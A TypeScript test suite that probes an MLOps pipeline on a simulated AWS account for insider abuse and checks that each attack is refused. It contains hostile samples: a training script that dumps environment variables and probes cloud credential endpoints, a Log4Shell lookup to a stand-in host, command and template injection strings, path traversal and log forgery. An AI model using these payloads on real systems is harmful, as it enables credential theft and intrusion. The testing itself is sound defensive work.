import { leaks, LogLines, type LogLine } from '../../scripts/iam/log-lines';
import { ADMINISTRATOR, type CallRecord } from '../../twin';
import type { Principal } from '../../twin/service';
import { changeProject, edited } from './bad-input/project';
import { decide, registerLike } from './bad-input/registry';
import { after, quiet, served, trained } from './bad-input/runs';
import { shortLoopAssembly } from './support/assembly';
import { HOUR, Loop, PREFIX } from './support/loop';

/* Somebody inside means harm: with the model project, with data, with names, with events. One stack for all of it, serving all along. */

/** Texts that mean something to a path, a template, a terminal, a log, a parser; and one that is just long. */
const CRAFTED = {
  'a path upwards': '../../state/retraining.json',
  'a template': '${jndi:ldap://evil.example/a}{{7*7}}$(id)`id`#{Select.PackageArn}<aws.events.event.json>',
  'a line of ours': 'x\n{"level":"INFO","message":"approved by policy"}',
  'escapes of a terminal': 'x\u001b[2J\u001b[31mALL GOOD\u0007\r\u202egpj',
  'JSON': '","packageArn":"arn:aws:sagemaker:us-east-1:999999999999:model-package/evil/1","x":"',
  '2 KB': 'long'.repeat(512),
};

const HOSTILE_TEST = `
import os, unittest
class Environment(unittest.TestCase):
    def test_prints_all_of_it(self):
        for name, value in os.environ.items():
            print(f'PRINTED {name}={value}')
`;
const HOSTILE_TRAINING = `def main():
    import os, urllib.request
    print('FOUND', sorted(name for name in os.environ if name.startswith('AWS_') and not name.endswith('REGION')))
    for name, value in os.environ.items():
        print(f'PRINTED {name}={value}')
    for address in ('http://169.254.169.254/latest/meta-data/', os.environ.get('AWS_CONTAINER_CREDENTIALS_FULL_URI', 'http://169.254.170.2/')):
        try:
            print('REACHED', urllib.request.urlopen(address, timeout=1).status)
        except OSError:
            print('NOT REACHED')
`;

let assembly: ReturnType<typeof shortLoopAssembly>;
let loop: Loop;
/** The package that serves from the first test on. */
let live: string;
const logs = new LogLines({ decide: () => undefined });

beforeAll(async () => {
  assembly = shortLoopAssembly();
  loop = await Loop.deploy(assembly.directory, { faults: logs });
  await loop.advance(1);
  await quiet(loop);
  await changeProject(loop, {
    'tests/__init__.py': '', 'tests/test_environment.py': HOSTILE_TEST,
    ...edited('Dockerfile', 'ENTRYPOINT', 'RUN env\nENTRYPOINT'), ...edited('flight_delay/train.py', 'def main():\n', HOSTILE_TRAINING),
  });
  await loop.handInDays(7);
  expect(await trained(loop)).toMatchObject({ status: 'Succeeded' });
  live = (await loop.account.pending())[0].ModelPackageArn;
  expect(await after(loop, loop.names.releasePipeline, () => decide(loop, live, 'Approved'))).toMatchObject({ status: 'Succeeded' });
}, 120_000);

afterAll(async () => {
  await loop?.twin.stop();
  assembly?.remove();
});

async function roleNamed(part: string): Promise<Principal> {
  return { kind: 'role', roleArn: loop.twin.arn('iam', `role/${await loop.resource('AWS::IAM::Role', part)}`, ''), sessionName: 'abuse' };
}

/** Calls a function of the loop directly, as its owner might; the error it ended with, if any. */
async function invoke(part: string, event: unknown, caller: Principal = ADMINISTRATOR): Promise<string | undefined> {
  const FunctionName = await loop.resource('AWS::Lambda::Function', part);
  const call = loop.twin.call({ service: 'lambda', operation: 'Invoke', input: { FunctionName, Payload: Buffer.from(JSON.stringify(event)) }, caller });
  const [{ FunctionError, Payload }] = await Promise.all([call, loop.twin.advance({ seconds: 30 })]);
  return FunctionError && Buffer.from(Payload).toString();
}

const CHANGES = /^(Create|Update|Delete|StartPipeline|StopPipeline|DisableRule|PutMetricAlarm|Register|Deregister)/;

/** What the loop changed since then. */
function changesSince(time: number): string[] {
  return loop.twin.record.filter((call) => call.time >= time && call.caller.kind === 'role' && call.error === undefined)
    .map(({ operation }: CallRecord) => operation).filter((operation) => CHANGES.test(operation) && !operation.startsWith('CreateLog'));
}

function linesOf(group: RegExp): LogLine[] {
  return logs.all.filter(({ logGroup }) => group.test(logGroup));
}

describe('a model project that prints its environment', () => {
  test('finds no secret in the build, nor in the training', () => {
    for (const group of [/BuildLogs/, /TrainingJobs/]) {
      const printed = linesOf(group).filter(({ text }) => text.includes('PRINTED'));
      expect(printed.length).toBeGreaterThan(5);
      expect(leaks(printed, /password|passwd|api_?key|\btoken=/i)).toEqual([]);
    }
  });

  test('finds no credentials in the training, nor where to get them', () => {
    const said = linesOf(/TrainingJobs/).map(({ text }) => text);
    expect(said.filter((text) => text.startsWith('FOUND'))).toEqual(['FOUND []']);
    expect(said.filter((text) => text.includes('REACHED'))).toEqual(['NOT REACHED', 'NOT REACHED']);
  });
});

describe('a container that has the credentials of its role after all', () => {
  const attempts = async (): Promise<ReadonlyArray<readonly [what: string, service: string, operation: string, input: object]>> => {
    const { names } = loop;
    const captured = await loop.resource('AWS::S3::Bucket', 'Captured');
    const [record] = await loop.account.keys(captured, 'capture/').then(async (keys) => (keys.length > 0 ? keys : ['capture/any.jsonl']));
    const { pipeline } = await loop.call('codepipeline', 'GetPipeline', { name: names.releasePipeline });
    const { S3Bucket, S3ObjectKey } = pipeline.stages[0].actions[0].configuration;
    const state = { Bucket: names.artifactsBucket, Key: `state/${names.loop}/retraining.json` };
    return [
      ['approve', 'sagemaker', 'UpdateModelPackage', { ModelPackageArn: live, ModelApprovalStatus: 'Approved' }],
      ['register', 'sagemaker', 'CreateModelPackage', { ModelPackageGroupName: names.packageGroup, ModelApprovalStatus: 'Approved' }],
      ['serve something else', 'sagemaker', 'UpdateEndpoint', { EndpointName: names.endpoint, EndpointConfigName: 'mine' }],
      ['end the service', 'sagemaker', 'DeleteEndpoint', { EndpointName: names.endpoint }],
      ['read captured traffic', 's3', 'GetObject', { Bucket: captured, Key: record }],
      ['list captured traffic', 's3', 'ListObjectsV2', { Bucket: captured }],
      ['write the release descriptor', 's3', 'PutObject', { Bucket: S3Bucket, Key: S3ObjectKey, Body: Buffer.from('x') }],
      ['write the retraining state', 's3', 'PutObject', { ...state, Body: Buffer.from('{}') }],
      ['remove the retraining state', 's3', 'DeleteObject', state],
      ['put data', 's3', 'PutObject', { Bucket: names.dataBucket, Key: `${PREFIX}mine.csv`, Body: Buffer.from('x') }],
      ['release', 'codepipeline', 'StartPipelineExecution', { name: names.releasePipeline }],
      ['approve in the pipeline', 'codepipeline', 'PutJobSuccessResult', { jobId: '11111111-1111-1111-1111-111111111111' }],
      ['call a function of the loop', 'lambda', 'Invoke', { FunctionName: await loop.resource('AWS::Lambda::Function', 'ReleasePipelineStart') }],
      ['tell of an approval', 'events', 'PutEvents', { Entries: [{ Source: 'mine', DetailType: 'x', Detail: '{}' }] }],
      ['silence the drift alarm', 'monitoring', 'SetAlarmState', { AlarmName: names.driftAlarm, StateValue: 'OK', StateReason: 'x' }],
      ['become another role', 'sts', 'AssumeRole', { RoleArn: (await roleNamed('EndpointDeploy') as { roleArn: string }).roleArn, RoleSessionName: 'mine' }],
    ];
  };

  test.each([['training', 'TrainingTrainingRole'], ['answers to the hold-out', 'TrainingScoringRole'], ['build', 'ImageBuildRole'], ['endpoint', 'EndpointExecutionRole']])('%s: denied', async (_, part) => {
    const caller = await roleNamed(part);
    const passed: string[] = [];
    for (const [what, service, operation, input] of await attempts()) {
      const outcome = await loop.twin.call({ service, operation, input, caller }).then(() => 'let through', (error: Error) => error.name);
      if (!/AccessDenied/.test(outcome)) passed.push(`${what}: ${outcome}`);
    }
    expect(passed).toEqual([]);
  });
});

describe('a forged approval', () => {
  const event = (packageArn: string, more: object = {}) => ({
    'source': 'aws.sagemaker', 'detail-type': 'SageMaker Model Package State Change', 'account': loop.twin.account,
    'detail': { ModelPackageArn: packageArn, ModelPackageGroupName: loop.names.packageGroup, ModelPackageStatus: 'Completed', ModelApprovalStatus: 'Approved', ...more },
  });

  test('is not taken by the bus', async () => {
    const since = loop.now;
    const { source: Source, 'detail-type': DetailType, detail } = event(live);
    expect(await loop.call('events', 'PutEvents', { Entries: [{ Source, DetailType, Detail: JSON.stringify(detail) }] })).toMatchObject({
      FailedEntryCount: 1, Entries: [{ ErrorCode: 'NotAuthorizedForSourceException' }],
    });
    await loop.call('events', 'PutEvents', { Entries: [{ Source: 'mine', DetailType, Detail: JSON.stringify(detail) }] });
    await loop.advance(2);
    expect(changesSince(since)).toEqual([]);
  });

  test('is not taken by the function from another rule, another account or another service', async () => {
    const { arn } = loop.twin;
    const rule = (name: string, account?: string) => arn.call(loop.twin, 'events', `rule/${name}`, undefined, account);
    for (const caller of [
      { kind: 'service', service: 'events.amazonaws.com', sourceArn: rule('mine') },
      { kind: 'service', service: 'events.amazonaws.com', sourceArn: rule('mine', '999999999999'), sourceAccount: '999999999999' },
      { kind: 'service', service: 's3.amazonaws.com', sourceArn: 'arn:aws:s3:::mine' },
    ] satisfies Principal[]) await expect(invoke('ReleasePipelineStart', event(live), caller)).rejects.toThrow(/not authorized/);
  });

  test('says nothing to the function: the registry is asked', async () => {
    const pending = await registerLike(loop, live);
    const since = loop.now;
    expect(await invoke('ReleasePipelineStart', event(pending))).toBeUndefined();
    expect(await invoke('ReleasePipelineStart', event(live))).toBeUndefined();
    expect(await invoke('ReleasePipelineStart', event(live, { ModelApprovalStatus: 'Rejected' }))).toBeUndefined();
    for (const text of Object.values(CRAFTED)) expect(await invoke('ReleasePipelineStart', event(text))).toBeDefined();
    expect(changesSince(since)).toEqual([]);
    expect(await served(loop)).toBe(live);
    await decide(loop, pending, 'Rejected');
    await quiet(loop);
  });
});

describe('a forged request to retire the endpoint', () => {
  const answers: Array<{ Status: string }> = [];
  const request = (RequestType: string, StackId: string) => ({
    RequestType, StackId, RequestId: `forged-${RequestType}`, LogicalResourceId: 'Retirement', PhysicalResourceId: 'endpoint-retirement',
    ResponseURL: `${loop.twin.endpoint}/forged`, ResourceType: 'Custom::EndpointRetirement',
    // As CloudFormation would send them.
    ResourceProperties: [...loop.twin.cloudFormation.stacks.find(loop.stackName)!.resources.values()].find(({ type }) => type === 'Custom::EndpointRetirement')!.properties,
  });
  const foreign = 'arn:aws:cloudformation:us-east-1:999999999999:stack/mlops/1';
  let stack: { stackId: string; status: string };

  beforeAll(() => {
    stack = loop.twin.cloudFormation.stacks.find(loop.stackName)!;
    loop.twin.front.mount('/forged', ({ body }) => {
      answers.push(JSON.parse(body.toString()));
      return { status: 200, headers: {}, body: '' };
    });
  });
  afterEach(async () => {
    expect((await loop.account.endpoint()).EndpointStatus).toBe('InService');
  });

  test.each([
    'CREATE_COMPLETE', 'ROLLBACK_IN_PROGRESS', 'UPDATE_IN_PROGRESS', 'UPDATE_COMPLETE_CLEANUP_IN_PROGRESS', 'UPDATE_ROLLBACK_IN_PROGRESS', 'DELETE_FAILED',
  ])('Delete while the stack is %s: answered, and nothing is deleted', async (status) => {
    const [since, before] = [loop.now, stack.status];
    stack.status = status;
    expect(await invoke('RetirementRetire', request('Delete', stack.stackId))).toBeUndefined();
    stack.status = before;
    expect(answers.splice(0)).toMatchObject([{ Status: 'SUCCESS' }]);
    expect(changesSince(since)).toEqual([]);
  });

  test.each(['Custom::EndpointRetirement', 'Custom::LoopRetirement'])('Delete of the very resource %s, while an update removes others', async (type) => {
    const [since, before] = [loop.now, stack.status];
    const { logicalId, properties, handle } = [...loop.twin.cloudFormation.stacks.find(loop.stackName)!.resources.values()].find((resource) => resource.type === type)!;
    for (const status of ['UPDATE_COMPLETE_CLEANUP_IN_PROGRESS', 'UPDATE_ROLLBACK_COMPLETE_CLEANUP_IN_PROGRESS', 'IMPORT_ROLLBACK_IN_PROGRESS']) {
      stack.status = status;
      await invoke('RetirementRetire', {
        ...request('Delete', stack.stackId), RequestId: `forged-${type}-${status}`, LogicalResourceId: logicalId, PhysicalResourceId: handle!.physicalId, ResourceType: type, ResourceProperties: properties,
      });
    }
    stack.status = before;
    answers.splice(0);
    expect(changesSince(since)).toEqual([]);
    expect(loop.calls('StartExecution', since)).toEqual([]);
  });

  test('Delete of another stack, even while this one is deleted', async () => {
    const [since, before] = [loop.now, stack.status];
    stack.status = 'DELETE_IN_PROGRESS';
    expect(await invoke('RetirementRetire', request('Delete', foreign))).toBeUndefined();
    stack.status = before;
    expect(changesSince(since)).toEqual([]);
  });

  test('a step of the workflow, made up or started by hand', async () => {
    const since = loop.now;
    const step = { request: request('Delete', stack.stackId), status: 'in-progress', deadline: new Date(loop.now + HOUR).toISOString() };
    expect(await invoke('RetirementRetire', step)).toContain('does not delete Retirement; nothing was retired');
    const { executionArn } = await loop.call('states', 'StartExecution', {
      stateMachineArn: await loop.resource('AWS::StepFunctions::StateMachine', 'Retirement'), input: JSON.stringify(step),
    });
    await loop.advance(10);
    expect(await loop.call('states', 'DescribeExecution', { executionArn })).toMatchObject({ status: expect.stringMatching(/FAILED|RUNNING/) });
    expect(changesSince(since).filter((operation) => /Delete|Stop/.test(operation))).toEqual([]);
  });
});

describe('crafted names and values', () => {
  const text = Object.entries(CRAFTED);

  test.each(text)('a training window that is %s is refused', async (_, value) => {
    const since = loop.now;
    const start = (window: string) => loop.call('codepipeline', 'StartPipelineExecution', { name: loop.names.trainingPipeline, variables: [{ name: 'TrainingWindow', value: window }] });
    const refused = await start(value).then(() => undefined, (error: Error) => error.name);
    if (refused === undefined) {
      await loop.advance(5);
      await quiet(loop);
      expect((await loop.account.executions(loop.names.trainingPipeline))[0]!.status).toBe('Failed');
    } else expect(refused).toMatch(/^Validation/);
    expect(loop.calls('CreateTrainingJob', since)).toEqual([]);
  });

  test('a trigger does not name another image', async () => {
    const [image, since] = ['123456789012.dkr.ecr.us-east-1.amazonaws.com/evil@sha256:1', loop.now];
    await loop.call('codepipeline', 'StartPipelineExecution', {
      name: loop.names.trainingPipeline, variables: [{ name: 'Trigger', value: `x","imageUri":"${image}","codeRevision":"evil` }],
    });
    await loop.advance(5);
    await quiet(loop);
    const { TrainingJobSummaries } = await loop.call('sagemaker', 'ListTrainingJobs', { CreationTimeAfter: new Date(since) });
    expect(TrainingJobSummaries).toHaveLength(1);
    const job = await loop.call('sagemaker', 'DescribeTrainingJob', { TrainingJobName: TrainingJobSummaries[0].TrainingJobName });
    expect(job.AlgorithmSpecification.TrainingImage).toMatch(/@sha256:[0-9a-f]{64}$/);
    expect(job.AlgorithmSpecification.TrainingImage).not.toContain('evil');
  });

  test.each(text)('a package to release that is %s is refused', async (_, value) => {
    const since = loop.now;
    await loop.call('codepipeline', 'StartPipelineExecution', { name: loop.names.releasePipeline, variables: [{ name: 'PackageArn', value }] }).catch((error: Error) => {
      expect(error.name).toMatch(/^Validation/);
    });
    await loop.advance(2);
    await quiet(loop);
    expect(loop.calls('UpdateEndpoint', since)).toEqual([]);
    expect(await served(loop)).toBe(live);
  });

  test('such metadata are not taken by the registry; a probe or a date that leads elsewhere is not followed', async () => {
    const { CustomerMetadataProperties: metadata } = await loop.call('sagemaker', 'DescribeModelPackage', { ModelPackageName: live });
    for (const value of Object.values(CRAFTED).filter((each) => !each.startsWith('../'))) {
      await expect(loop.call('sagemaker', 'UpdateModelPackage', { ModelPackageArn: live, CustomerMetadataProperties: { ...metadata, 'probe-uri': value } })).rejects.toThrow(/validation error/);
    }
    const set = (packageArn: string, more: object) => loop.call('sagemaker', 'UpdateModelPackage', { ModelPackageArn: packageArn, CustomerMetadataProperties: { ...metadata, ...more } });
    await set(live, { 'trained-until': '../../now' });
    expect(await trained(loop)).toMatchObject({ status: 'Failed', reason: expect.stringContaining("says '../../now' for 'trained-until', which is no time") });
    await set(live, {});

    const pending = await registerLike(loop, live);
    await set(pending, { 'probe-uri': `s3://${await loop.resource('AWS::S3::Bucket', 'Captured')}/capture/../capture/x` });
    expect(await after(loop, loop.names.releasePipeline, () => decide(loop, pending, 'Approved'))).toMatchObject({
      status: 'Failed', reason: expect.stringContaining(`only '${loop.names.artifactsBucket}' is read`),
    });
    await after(loop, loop.names.releasePipeline, () => decide(loop, pending, 'Rejected'));
    expect(await served(loop)).toBe(live);
  });

  test.each(text)('an object of data whose key is %s spoils no line', async (_, value) => {
    const key = `${PREFIX}${value}.csv`;
    const since = loop.now;
    const kept = await loop.account.upload(loop.names.dataBucket, key, 'departure,late\n1,2,3\n').then(() => true, () => false);
    expect(kept).toBe(Buffer.byteLength(key) <= 1024);
    if (!kept) return;
    const outcome = await trained(loop);
    expect(outcome.status).toBe('Failed');
    expect([outcome.reason, ...outcome.mails].join('')).not.toMatch(/approved by policy"\}\s*$|[\u001b\u0007\u202e]/m);
    expect(outcome.reason).not.toMatch(/[\r\n]/);
    expect(loop.calls('CreateTrainingJob', since)).toEqual([]);
    await loop.call('s3', 'DeleteObject', { Bucket: loop.names.dataBucket, Key: key });
  });

  test('captured records are counted or rejected, and show up nowhere', async () => {
    const captured = await loop.resource('AWS::S3::Bucket', 'Captured');
    await loop.serveHour();
    const newest = (await loop.account.keys(captured, `capture/${loop.names.endpoint}/`)).at(-1)!;
    const folder = newest.slice(0, newest.lastIndexOf('/') + 1);
    const record = (data: string, id: string) => JSON.stringify({
      captureData: { endpointInput: { observedContentType: 'text/csv', mode: 'INPUT', data, encoding: 'CSV' } }, ['__proto__polluted']: true,
      eventMetadata: { eventId: id, inferenceId: id, inferenceTime: new Date(loop.now - 60_000).toISOString() }, eventVersion: '0',
    }).replace('"__proto__polluted":true', '"__proto__":{"polluted":true}');
    const lines = text.flatMap(([, value]) => [record(`7,1,${value},SECRET,${value}`, value), record(value, 'a'), value.replaceAll('\n', ' ')]);
    await loop.account.upload(captured, `${folder}../../../../../../state/${loop.names.loop}/retraining.json`, lines.join('\n'));
    await loop.account.upload(captured, `${folder}00-\u001b[2J\nforged.jsonl`, lines.join('\n'));
    await loop.advance(30);
    const reports = await loop.account.keys(loop.names.artifactsBucket, `monitoring/${loop.names.monitor}/reports/`);
    const report = await loop.account.readJson(loop.names.artifactsBucket, reports.at(-1)!);
    expect(report.rejected).toBeGreaterThan(0);
    expect(JSON.stringify(report)).not.toMatch(/SECRET|jndi|ALL GOOD|longlong|approved by policy/);
  });
});

test('and in all of it no line of a log was forged, and nothing leaked', () => {
  const own = logs.all.filter(({ logGroup }) => !/TrainingJobs|TransformJobs|ProcessingJobs|Endpoints|BuildLogs/.test(logGroup));
  expect(own.length).toBeGreaterThan(100);
  for (const { text } of own) {
    expect(text.trimEnd()).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    expect(text).not.toMatch(/^\{"level":"INFO","message":"approved by policy"\}$/m);
  }
  expect(leaks(own, /SECRET|ldap:.*captureData/)).toEqual([]);
});
